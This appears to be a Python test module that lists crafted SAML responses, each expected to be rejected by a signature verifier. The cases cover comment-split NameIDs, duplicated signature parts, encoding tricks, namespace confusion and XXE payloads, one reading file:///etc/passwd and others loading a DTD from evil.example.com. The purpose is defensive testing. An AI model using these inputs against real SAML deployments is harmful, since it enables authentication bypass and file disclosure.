"""Two readings of one text: comments, processing instructions, CDATA, entities, encodings, namespaces.

What one part of a program sees as one text another sees as two (the family of CVE-2017-11427), and what
one parser sees as an element another does not (ruby-saml CVE-2025-25291, -25292, -66567); canonical forms
that come to nothing (CVE-2025-66568, "The Fragile Lock", December 2025).
"""

from __future__ import annotations

from adversary.cases import OTTO, Attack, of_class
from adversary.craft import EVIL, forged, genuine, piece, swap
from support.forge import Forger

_COMMENT = "comment, entity or processing instruction"
_PI = "processing instruction"
_DOCTYPE = "document type or entity"
_MALFORMED = "not well-formed XML"
_BESIDE = "children of the Response"
_DIGEST = "digest does not match"


def _name_id(text: str, sign: str = "assertion") -> str:
    """Signed by the identity provider, as somebody may call themselves there."""
    return genuine(sign, OTTO.at(name_id=f"<saml:NameID>{text}</saml:NameID>"))


def _group(text: str) -> str:
    return genuine(story=OTTO.at(attributes=(("groups", (text,)),)))


def _in(element: str, what: str, sign: str = "assertion") -> str:
    """A genuine response with something put at the begin of an element."""
    xml = genuine(sign)
    at = xml.index(">", xml.index(f"<{element}")) + 1
    return xml[:at] + what + xml[at:]


def _in_assertion_issuer(what: str) -> str:
    xml = genuine()
    at = xml.index(">", xml.index("<saml:Issuer>", xml.index("<saml:Assertion"))) + 1
    return xml[:at] + what + xml[at:]


def _doubled(element: str) -> str:
    """A genuine response with an element of its signature twice."""
    xml = genuine()
    begin = xml.index(f"<{element}")
    closing, empty = f"</{element.strip()}>", "/>"
    end_tag = empty if element.endswith(" ") else closing
    end = xml.index(end_tag, begin) + len(end_tag)
    return xml[:end] + xml[begin:end] + xml[end:]


def _emptied(element: str) -> str:
    xml = genuine()
    return swap(xml, piece(xml, element), f"<{element}></{element}>")


def _with_digest(value: str) -> str:
    xml = genuine()
    return swap(xml, piece(xml, "ds:DigestValue"), f"<ds:DigestValue>{value}</ds:DigestValue>")


COMMENTS = of_class(
    "split text",
    [
        Attack("comment-in-the-name-id", _COMMENT, lambda: _name_id("ada@example.com<!-- -->.evil.com")),
        Attack(
            "comment-in-the-name-id-of-a-signed-response",
            _COMMENT,
            lambda: _name_id("ada@example.com<!-- -->.evil.com", "response"),
        ),
        Attack("comment-added-to-the-name-id-after-signing", _COMMENT, lambda: _in("saml:NameID", "<!---->")),
        Attack("comment-in-a-group", _COMMENT, lambda: _group("sysadmin<!-- -->-of-nothing")),
        Attack("comment-in-an-audience", _COMMENT, lambda: _in("saml:Audience>", "<!---->")),
        Attack("comment-in-the-assertions-issuer", _COMMENT, lambda: _in_assertion_issuer("<!---->")),
        Attack(
            "comment-in-the-unsigned-issuer",
            "Issuer must be text only",
            lambda: _in("saml:Issuer", "<!---->"),
        ),
        Attack("comment-in-the-digest-value", _COMMENT, lambda: _in("ds:DigestValue", "<!--x-->")),
        Attack("comment-in-the-signature-value", _COMMENT, lambda: _in("ds:SignatureValue", "<!--x-->")),
        Attack("comment-in-signed-info", _COMMENT, lambda: _in("ds:SignedInfo", "<!--x-->")),
        Attack(
            "comment-in-a-signed-response",
            _COMMENT,
            lambda: _in("samlp:Status", "<!--x-->", "response"),
        ),
        Attack("instruction-in-the-name-id", _COMMENT, lambda: _name_id("ada@example.com<?x?>.evil.com")),
        Attack("instruction-in-a-group", _COMMENT, lambda: _group("sysadmin<?x?>-of-nothing")),
        Attack("instruction-in-the-status", _COMMENT, lambda: _in("samlp:Status", "<?x y?>")),
        Attack("instruction-before-the-response", _PI, lambda: "<?xml-stylesheet href='x'?>" + genuine()),
        Attack("instruction-after-the-response", _PI, lambda: genuine() + "<?x?>"),
        Attack(
            "element-in-the-name-id",
            "NameID must be text only",
            lambda: _name_id("ada@example.com<saml:x/>.evil.com"),
        ),
        Attack(
            "element-in-an-audience",
            "Audience must be text only",
            lambda: genuine(story=OTTO.at(audiences=(("urn:awscons:test<saml:x/>",),))),
        ),
    ],
)

SAMLSTORM = of_class(
    "samlstorm",
    [
        Attack(
            "digest-in-a-comment-of-the-digest-value",
            _COMMENT,
            lambda: _in("ds:DigestValue", "<!--AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-->"),
        ),
        Attack(
            "element-in-the-digest-value",
            "DigestValue must be text only",
            lambda: _in("ds:DigestValue", "<ds:x/>"),
        ),
        Attack(
            "element-in-the-signature-value",
            "SignatureValue must be text only",
            lambda: _in("ds:SignatureValue", "<ds:x/>"),
        ),
        Attack("two-digest-values", "children of the Reference", lambda: _doubled("ds:DigestValue")),
        Attack("two-signed-infos", "children of the Signature", lambda: _doubled("ds:SignedInfo")),
        Attack("two-signature-values", "children of the Signature", lambda: _doubled("ds:SignatureValue")),
        Attack("two-digest-methods", "children of the Reference", lambda: _doubled("ds:DigestMethod ")),
        Attack(
            "forged-signed-info-before-the-genuine-one",
            "children of the Signature",
            lambda: swap(
                genuine(),
                "<ds:SignedInfo>",
                piece(genuine(story=EVIL), "ds:SignedInfo") + "<ds:SignedInfo>",
            ),
        ),
        Attack(
            "genuine-signed-info-inside-the-forged-one",
            "children of SignedInfo",
            lambda: swap(
                genuine(), "</ds:SignedInfo>", piece(genuine(), "ds:SignedInfo") + "</ds:SignedInfo>"
            ),
        ),
        Attack(
            "genuine-signed-info-in-an-object",
            "children of the Signature",
            lambda: swap(
                genuine(),
                "</ds:SignatureValue>",
                f"</ds:SignatureValue><ds:Object>{piece(genuine(), 'ds:SignedInfo')}</ds:Object>",
            ),
        ),
        Attack(
            "text-between-the-parts-of-signed-info",
            "text between elements",
            lambda: _in("ds:SignedInfo", "x"),
        ),
        Attack(
            "text-between-the-parts-of-the-signature",
            "text between elements",
            lambda: _in("ds:Signature ", "x"),
        ),
    ],
)

TWO_READINGS = of_class(
    "two readings",
    [
        Attack("doctype", _DOCTYPE, lambda: "<!DOCTYPE samlp:Response>" + genuine()),
        Attack("doctype-in-lower-case", _DOCTYPE, lambda: "<!doctype x>" + genuine()),
        Attack("doctype-in-cdata", _DOCTYPE, lambda: _in("samlp:Status", "<![CDATA[<!DOCTYPE x>]]>")),
        Attack("doctype-in-a-comment", _DOCTYPE, lambda: f"<!-- <!DOCTYPE x [ -->{genuine()}<!-- ]> -->"),
        Attack(
            "doctype-with-an-attribute-default",
            _DOCTYPE,
            lambda: '<!DOCTYPE x [<!ATTLIST samlp:Response ID ID "_assertion">]>' + genuine(),
        ),
        Attack(
            "doctype-that-makes-another-attribute-the-id",
            _DOCTYPE,
            lambda: "<!DOCTYPE x [<!ATTLIST saml:Subject evil ID #IMPLIED>]>" + genuine(),
        ),
        Attack(
            "entity-for-the-name-id",
            _DOCTYPE,
            lambda: (
                '<!DOCTYPE x [<!ENTITY e "ada@example.com">]>' + swap(genuine(), "otto@example.com", "&e;")
            ),
        ),
        Attack(
            "external-entity",
            _DOCTYPE,
            lambda: (
                '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                + swap(genuine(), "otto@example.com", "&e;")
            ),
        ),
        Attack(
            "external-document-type",
            _DOCTYPE,
            lambda: '<!DOCTYPE x SYSTEM "https://evil.example.com/x.dtd">' + genuine(),
        ),
        Attack(
            "parameter-entity",
            _DOCTYPE,
            lambda: '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example.com/x.dtd"> %e;]>' + genuine(),
        ),
        Attack("undeclared-entity", _MALFORMED, lambda: swap(genuine(), "otto@", "&otto;@")),
        Attack("utf-16", "document is not UTF-8", lambda: genuine().encode("utf-16")),
        Attack("utf-16-without-a-mark", "document holds NUL", lambda: genuine().encode("utf-16-le")),
        Attack("utf-32", "document is not UTF-8", lambda: genuine().encode("utf-32")),
        Attack(
            "latin-1-declared",
            "encoding declared",
            lambda: '<?xml version="1.0" encoding="ISO-8859-1"?>' + genuine(),
        ),
        Attack(
            "utf-7-declared",
            "encoding declared",
            lambda: "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE x+AD4-" + genuine(),
        ),
        Attack(
            "utf-16-declared-in-utf-8",
            "encoding declared",
            lambda: "<?xml version='1.0' encoding='UTF-16'?>" + genuine(),
        ),
        Attack(
            "latin-1-declared-behind-two-byte-order-marks",
            "encoding declared",
            lambda: "\ufeff\ufeff<?xml version='1.0' encoding='ISO-8859-1'?>" + genuine(),
        ),
        Attack(
            "overlong-utf-8",
            "document is not UTF-8",
            lambda: genuine().encode().replace(b"<ds", b"\xc0\xbcds", 1),
        ),
        Attack(
            "lone-surrogate",
            "document is not UTF-8",
            lambda: genuine().encode().replace(b"otto", b"\xed\xa0\x80", 1),
        ),
        Attack("nul-in-the-name-id", "document holds NUL", lambda: swap(genuine(), "otto@", "ada\x00@")),
        Attack("nul-by-reference", _MALFORMED, lambda: swap(genuine(), "otto@", "ada&#0;@")),
        Attack("control-character", _MALFORMED, lambda: swap(genuine(), "otto@", "ada\x08@")),
        Attack("second-document-behind", _MALFORMED, lambda: genuine() + forged()),
        Attack("markup-behind-the-end", _MALFORMED, lambda: genuine() + "]]>"),
        Attack(
            "attribute-twice",
            _MALFORMED,
            lambda: swap(genuine(), 'ID="_assertion"', 'ID="_a" ID="_assertion"'),
        ),
        Attack(
            "attribute-twice-under-two-prefixes-of-one-namespace",
            _MALFORMED,
            lambda: swap(
                genuine(), "<samlp:Status>", '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2">'
            ),
        ),
        Attack(
            "name-id-changed-and-the-old-one-in-cdata",
            _DIGEST,
            lambda: swap(genuine(), "otto@example.com", "ada@example.com<![CDATA[]]>"),
        ),
        Attack(
            "name-id-with-a-character-reference-added",
            _DIGEST,
            lambda: swap(genuine(), "otto@example.com", "otto@example.com&#32;"),
        ),
        Attack("line-end-by-reference", _DIGEST, lambda: swap(genuine(), "otto@", "&#13;otto@")),
        Attack("white-space-in-the-name-id", _DIGEST, lambda: swap(genuine(), "otto@", "\notto@")),
        Attack(
            "unicode-form-changed",
            _DIGEST,
            lambda: swap(_name_id("Zo\u00eb"), "Zo\u00eb", "Zoe\u0308"),
        ),
    ],
)

CANONICAL_FORMS = of_class(
    "void canonical form",
    [
        Attack(
            "relative-namespace",
            "relative namespace",
            lambda: swap(genuine(), "<samlp:Status>", '<samlp:Status xmlns:x="relative/uri">'),
        ),
        Attack(
            "relative-namespace-in-the-signed-assertion",
            "relative namespace",
            lambda: swap(genuine(), "<saml:Subject>", '<saml:Subject xmlns:x="../x">'),
        ),
        Attack(
            "relative-namespace-in-signed-info",
            "relative namespace",
            lambda: swap(genuine(), "<ds:SignedInfo>", '<ds:SignedInfo xmlns:x="1">'),
        ),
        Attack(
            "relative-namespace-as-the-default",
            "relative namespace",
            lambda: swap(genuine(), "<samlp:Response ", '<samlp:Response xmlns="x" '),
        ),
        Attack(
            "namespace-that-is-no-uri",
            _MALFORMED,
            lambda: swap(genuine(), "<ds:SignedInfo>", '<ds:SignedInfo xmlns:x="urn:a b">'),
        ),
        Attack(
            "namespace-that-is-no-uri-in-the-signed-assertion",
            _MALFORMED,
            lambda: swap(genuine(), "<saml:Subject>", '<saml:Subject xmlns:x="http://[::1">'),
        ),
        Attack("empty-digest-value", "empty value", lambda: _emptied("ds:DigestValue")),
        Attack("empty-signature-value", "empty value", lambda: _emptied("ds:SignatureValue")),
        Attack(
            "digest-of-nothing",
            "no trusted key made this signature",
            lambda: _with_digest("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="),
        ),
        Attack("digest-that-is-not-base64", "not base64", lambda: _with_digest("####")),
        Attack("digest-cut-short", "no trusted key made this signature", lambda: _with_digest("AAAA")),
    ],
)

NAMESPACES = of_class(
    "namespace confusion",
    [
        Attack(
            "response-in-another-namespace",
            "root is not a Response",
            lambda: genuine().replace("urn:oasis:names:tc:SAML:2.0:protocol", "urn:evil"),
        ),
        Attack(
            "response-of-saml-1",
            "root is not a Response",
            lambda: genuine().replace(
                "urn:oasis:names:tc:SAML:2.0:protocol", "urn:oasis:names:tc:SAML:1.0:protocol"
            ),
        ),
        Attack(
            "assertion-of-saml-1",
            _BESIDE,
            lambda: swap(
                genuine(),
                '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"',
                '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"',
            ),
        ),
        Attack(
            "signature-in-another-namespace",
            "children of the Assertion",
            lambda: genuine().replace(
                "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2000/09/xmldsig"
            ),
        ),
        Attack(
            "prefix-bound-anew-inside-the-signed-assertion",
            "children of the Assertion",
            lambda: swap(genuine(), "<saml:Subject>", '<saml:Subject xmlns:saml="urn:evil">'),
        ),
        Attack(
            "forged-subject-in-another-namespace-before-the-signed-one",
            "children of the Assertion",
            lambda: swap(
                genuine(),
                "<saml:Subject>",
                '<e:Subject xmlns:e="urn:evil"><e:NameID>ada@example.com</e:NameID></e:Subject><saml:Subject>',
            ),
        ),
        Attack(
            "forged-assertion-in-another-namespace-before-the-signed-one",
            _BESIDE,
            lambda: swap(
                genuine(),
                "</samlp:Status>",
                '</samlp:Status><e:Assertion xmlns:e="urn:evil"><e:NameID>ada@example.com</e:NameID></e:Assertion>',
            ),
        ),
        Attack(
            "forged-attribute-by-prefix-beside-the-plain-one",
            _DIGEST,
            lambda: swap(genuine(), 'Name="groups"', 'Name="groups" saml:Name="admins"'),
        ),
        Attack(
            "version-by-prefix-only",
            "version",
            lambda: swap(genuine(), 'Version="2.0"', 'samlp:Version="2.0"'),
        ),
        Attack(
            "answer-to-our-request-by-prefix-only",
            "in response to",
            lambda: swap(genuine(), 'InResponseTo="_request"', 'samlp:InResponseTo="_request"'),
        ),
        Attack(
            "undeclared-prefix",
            _MALFORMED,
            lambda: swap(genuine(), "<saml:Subject>", "<evil:x/><saml:Subject>"),
        ),
        Attack(
            "prefix-undeclared-again",
            _MALFORMED,
            lambda: swap(genuine(), "<saml:Subject>", '<saml:Subject xmlns:saml="">'),
        ),
        Attack(
            "prefix-list-that-names-what-the-attacker-declares",
            "no trusted key made this signature",
            lambda: swap(
                genuine(forger=Forger(prefix_list="xs")),
                'xmlns:xs="http://www.w3.org/2001/XMLSchema"',
                'xmlns:xs="urn:evil"',
            ),
        ),
    ],
)

ATTACKS = [*COMMENTS, *SAMLSTORM, *TWO_READINGS, *CANONICAL_FORMS, *NAMESPACES]
